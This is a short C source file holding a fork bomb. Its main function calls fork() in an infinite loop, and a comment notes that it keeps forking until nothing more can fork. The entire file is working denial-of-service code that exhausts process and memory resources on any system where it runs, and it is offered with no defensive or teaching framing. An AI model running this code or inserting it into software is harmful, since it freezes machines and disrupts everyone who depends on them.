/* Forks until nothing forks any more, then keeps what it has. */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
